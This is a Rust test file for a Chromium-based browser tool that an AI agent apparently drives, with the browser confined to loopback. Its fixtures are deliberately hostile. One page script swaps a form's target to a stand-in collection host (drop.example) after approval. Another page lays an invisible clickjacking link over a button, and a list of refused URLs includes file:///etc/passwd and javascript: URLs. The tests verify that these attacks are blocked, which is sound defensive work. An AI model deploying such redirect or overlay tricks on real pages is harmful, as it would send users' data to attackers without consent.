//! Conch's browser against Debian's real Chromium, on pages served on
//! 127.0.0.1. Every host name Chromium looks up is mapped to 127.0.0.1 and
//! no proxy is used, so nothing leaves the machine.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::extract::State;
use axum::response::Html;
use axum::routing::{get, post};
use axum::Router;
use browser::{identity_of, Browser, BrowserError, Config, Expect};

#[derive(Default)]
struct Site {
    posted: Mutex<Vec<String>>,
    changed: AtomicBool,
}

const RENDERED: &str = r#"<!doctype html><title>Rendered</title><main id="m"></main>
<script>
fetch("/items").then(r => r.json()).then(items => {
  const ul = document.createElement("ul");
  for (const i of items) { const li = document.createElement("li"); li.textContent = i; ul.append(li); }
  document.getElementById("m").append(ul);
});
</script>"#;

const FORM: &str = r#"<!doctype html><title>Write to us</title>
<form action="/submit" method="post">
  <label>Your name <input name="who"></label>
  <label>Message <textarea name="text"></textarea></label>
  <label>Password <input type="password" name="pw"></label>
  <label>API token <input name="api_token"></label>
  <button>Send</button>
</form>"#;

/// A page that changes itself once the server says so: what a page can do
/// between a review and a click.
const CHANGING: &str = r#"<!doctype html><title>Compose</title>
<p id="note">Draft to Ada</p>
<form id="f" action="/submit" method="post"><input name="text" value="hello"><button>Send</button></form>
<script>
setInterval(() => fetch("/state").then(r => r.text()).then(s => {
  if (s === "changed" && !window.moved) {
    window.moved = true;
    document.getElementById("note").textContent = "Draft to Mallory";
    document.getElementById("f").action = "http://drop.example:PORT/collect";
  }
}), 50);
</script>"#;

/// A page that lays an invisible link over its harmless button: a click
/// "on the button" would land on the link.
const COVERED: &str = r#"<!doctype html><title>Covered</title>
<button id="b" style="position:absolute;left:20px;top:20px;width:120px;height:40px">Show more</button>
<a href="/collect" style="position:absolute;left:0;top:0;width:400px;height:200px;opacity:0.01;display:block">x</a>"#;

async fn serve() -> (SocketAddr, Arc<Site>) {
    let site = Arc::new(Site::default());
    let app = Router::new()
        .route("/rendered", get(|| async { Html(RENDERED) }))
        .route(
            "/items",
            get(|| async { axum::Json(vec!["Äpfel für Zoë", "東京の天気", "plain"]) }),
        )
        .route("/form", get(|| async { Html(FORM) }))
        .route("/covered", get(|| async { Html(COVERED) }))
        .route(
            "/changing",
            get(|headers: axum::http::HeaderMap| async move {
                let host = headers
                    .get("host")
                    .and_then(|h| h.to_str().ok())
                    .unwrap_or("");
                let port = host.rsplit(':').next().unwrap_or("");
                Html(CHANGING.replace("PORT", port))
            }),
        )
        .route(
            "/state",
            get(|State(s): State<Arc<Site>>| async move {
                if s.changed.load(Ordering::SeqCst) {
                    "changed"
                } else {
                    "same"
                }
            }),
        )
        .route(
            "/submit",
            post(|State(s): State<Arc<Site>>, body: String| async move {
                s.posted.lock().unwrap().push(body);
                Html("<!doctype html><title>Sent</title><h1>Thank you, it was sent.</h1>")
            }),
        )
        .route(
            "/collect",
            post(|State(s): State<Arc<Site>>, body: String| async move {
                s.posted.lock().unwrap().push(format!("collect:{body}"));
                Html("<!doctype html><title>Got it</title>")
            }),
        )
        .with_state(site.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    (addr, site)
}

/// A browser whose profile is in a temporary Conch folder, every name
/// resolved to 127.0.0.1.
fn browser(home: &std::path::Path) -> Arc<Browser> {
    let mut config = Config::in_home(home);
    config.extra_args = loopback_only();
    Browser::new(config)
}

fn loopback_only() -> Vec<String> {
    vec![
        "--host-resolver-rules=MAP * 127.0.0.1".to_owned(),
        "--no-proxy-server".to_owned(),
    ]
}

fn find<'a>(snapshot: &'a browser::Snapshot, role: &str, name: &str) -> &'a browser::Element {
    snapshot
        .elements
        .values()
        .find(|e| e.role == role && e.name.contains(name))
        .unwrap_or_else(|| panic!("no {role} {name:?} in\n{}", snapshot.text))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_rendered_page_is_read() {
    let (addr, _) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    let shown = b
        .open(
            "chat1",
            "c1",
            &format!("http://news.example:{}/rendered", addr.port()),
        )
        .await
        .unwrap();
    let text = &shown.snapshot.text;
    assert!(text.contains("Äpfel für Zoë"), "{text}");
    assert!(text.contains("東京の天気"), "{text}");
    assert_eq!(shown.snapshot.title, "Rendered");
    assert!(shown.snapshot.url.starts_with("http://news.example:"));
    // The profile is Conch's own, in its folder, and only there.
    assert!(home.path().join("browser/profile").is_dir());
    b.stop().await;
    assert!(!b.is_running());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_form_is_filled_and_submitted() {
    let (addr, site) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    let url = format!("http://files.example:{}/form", addr.port());
    let shown = b.open("chat1", "c1", &url).await.unwrap();
    let who = find(&shown.snapshot, "textbox", "Your name").r#ref.clone();
    let text = find(&shown.snapshot, "textbox", "Message").r#ref.clone();
    b.type_text("chat1", "c2", &who, "Zoë Ångström", None)
        .await
        .unwrap();
    let shown = b
        .type_text("chat1", "c3", &text, "Grüße aus 東京", None)
        .await
        .unwrap();
    assert!(b.known("chat1").unwrap().typed, "typed and not sent yet");
    let send = find(&shown.snapshot, "button", "Send");
    let sends = send.sends.clone().expect("a submit button sends");
    assert_eq!(
        sends.to,
        format!("http://files.example:{}/submit", addr.port())
    );
    assert_eq!(sends.method, "POST");
    let after = b
        .click("chat1", "c4", &send.r#ref.clone(), None)
        .await
        .unwrap();
    assert!(
        after.snapshot.text.contains("Thank you, it was sent."),
        "{}",
        after.snapshot.text
    );
    let posted = site.posted.lock().unwrap().clone();
    assert_eq!(posted.len(), 1);
    assert!(
        posted[0].contains("who=Zo%C3%AB+%C3%85ngstr%C3%B6m"),
        "{posted:?}"
    );
    assert!(
        !b.known("chat1").unwrap().typed,
        "the page that was typed on is gone"
    );
    // Back returns to the form.
    let back = b.back("chat1", "c5").await.unwrap();
    assert_eq!(back.snapshot.title, "Write to us");
    b.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_password_field_is_known_and_its_value_never_shown() {
    let (addr, _) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    let shown = b
        .open(
            "chat1",
            "c1",
            &format!("http://files.example:{}/form", addr.port()),
        )
        .await
        .unwrap();
    let pw = find(&shown.snapshot, "textbox", "Password").clone();
    assert!(pw.password && pw.secret);
    let name = find(&shown.snapshot, "textbox", "Your name").clone();
    assert!(!name.password);
    b.type_text(
        "chat1",
        "c2",
        &name.r#ref,
        "tok ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        None,
    )
    .await
    .unwrap();
    let shown = b
        .type_text("chat1", "c3", &pw.r#ref, "hunter2-Sécret", None)
        .await
        .unwrap();
    for text in [&shown.snapshot.text, &shown.snapshot.redacted] {
        assert!(!text.contains("hunter2"), "{text}");
    }
    assert_eq!(
        shown.snapshot.hidden_values, 1,
        "the password's value is hidden"
    );
    // A secret field's value, however plain its words, is the reviewer's
    // to never see (its text isn't said again beneath it either).
    let token = find(&shown.snapshot, "textbox", "API token").r#ref.clone();
    let shown = b
        .type_text("chat1", "c4", &token, "correct horse battery staple", None)
        .await
        .unwrap();
    assert!(shown.snapshot.text.contains("correct horse battery staple"));
    assert_eq!(shown.snapshot.hidden_values, 2, "and the token's");
    assert!(
        !shown.snapshot.redacted.contains("correct horse"),
        "{}",
        shown.snapshot.redacted
    );
    // The reviewer's page hides tokens the model's shows.
    assert!(shown.snapshot.text.contains("ghp_16C7e42F"));
    assert!(
        !shown.snapshot.redacted.contains("ghp_16C7e42F"),
        "{}",
        shown.snapshot.redacted
    );
    b.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_changes_after_approval_voids_the_click() {
    let (addr, site) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    let url = format!("http://mail.example:{}/changing", addr.port());
    b.open("chat1", "c1", &url).await.unwrap();
    // What the reviewer (or the owner) approved: the control and the page.
    let seen = b.look("chat1").await.unwrap();
    let send = find(&seen, "button", "Send").clone();
    let expect = Expect {
        element: identity_of(&seen, &send),
        page: Some(seen.redacted.clone()),
    };
    // Unchanged, the binding holds (read again, it is equal).
    let again = b.look("chat1").await.unwrap();
    assert_eq!(again.redacted, seen.redacted);
    site.changed.store(true, Ordering::SeqCst);
    tokio::time::sleep(Duration::from_millis(400)).await;
    let err = b
        .click("chat1", "c2", &send.r#ref, Some(&expect))
        .await
        .unwrap_err();
    assert!(matches!(err, BrowserError::Changed(_)), "{err}");
    assert!(err.to_string().contains("nothing was done"), "{err}");
    assert!(site.posted.lock().unwrap().is_empty(), "nothing was sent");
    b.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_send_button_that_posts_elsewhere_is_another_control() {
    let (addr, site) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    let url = format!("http://mail.example:{}/changing", addr.port());
    b.open("chat1", "c1", &url).await.unwrap();
    let seen = b.look("chat1").await.unwrap();
    let send = find(&seen, "button", "Send").clone();
    // Bound to the control only (as the owner's yes is): the page's words
    // may change, where it sends may not.
    let expect = Expect {
        element: identity_of(&seen, &send),
        page: None,
    };
    site.changed.store(true, Ordering::SeqCst);
    tokio::time::sleep(Duration::from_millis(400)).await;
    let now = b.look("chat1").await.unwrap();
    let moved = find(&now, "button", "Send");
    assert_eq!(
        moved.sends.as_ref().unwrap().to,
        format!("http://drop.example:{}/collect", addr.port()),
        "where it sends is read from the page as it is"
    );
    let err = b
        .click("chat1", "c2", &send.r#ref, Some(&expect))
        .await
        .unwrap_err();
    assert!(matches!(err, BrowserError::Changed(_)), "{err}");
    assert!(site.posted.lock().unwrap().is_empty());
    b.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn it_stops_when_idle_and_starts_again_on_use() {
    let (addr, _) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let mut config = Config::in_home(home.path());
    config.extra_args = loopback_only();
    config.idle = Duration::from_millis(300);
    let b = Browser::new(config);
    assert!(!b.is_running(), "nothing starts before it is used");
    let url = format!("http://news.example:{}/rendered", addr.port());
    b.open("chat1", "c1", &url).await.unwrap();
    let pid = b.pid().unwrap();
    let mut waited = 0;
    while b.is_running() && waited < 100 {
        tokio::time::sleep(Duration::from_millis(100)).await;
        waited += 1;
    }
    assert!(!b.is_running(), "stopped after being idle");
    // SAFETY: kill with signal 0 only asks whether the process exists.
    let alive = unsafe { libc::kill(pid as i32, 0) } == 0;
    assert!(!alive, "Chromium's process is gone");
    let err = b.snapshot("chat1", "c2").await.unwrap_err();
    assert_eq!(err, BrowserError::NoPage);
    b.open("chat1", "c3", &url).await.unwrap();
    assert!(b.is_running());
    b.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_web_pages_are_opened() {
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    for url in [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "chrome://settings",
        "data:text/html,hi",
        "not a url",
    ] {
        let err = b.open("chat1", "c1", url).await.unwrap_err();
        assert!(matches!(err, BrowserError::NotWeb(_)), "{url}: {err}");
    }
    assert!(!b.is_running(), "refused before starting anything");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_control_covered_by_something_else_is_not_clicked() {
    let (addr, _) = serve().await;
    let home = tempfile::tempdir().unwrap();
    let b = browser(home.path());
    let shown = b
        .open(
            "chat1",
            "c1",
            &format!("http://news.example:{}/covered", addr.port()),
        )
        .await
        .unwrap();
    let button = find(&shown.snapshot, "button", "Show more").r#ref.clone();
    let err = b.click("chat1", "c2", &button, None).await.unwrap_err();
    assert!(matches!(err, BrowserError::Unusable { .. }), "{err}");
    assert!(err.to_string().contains("covers it"), "{err}");
    let now = b.snapshot("chat1", "c3").await.unwrap();
    assert_eq!(now.snapshot.title, "Covered", "nothing was followed");
    b.stop().await;
}
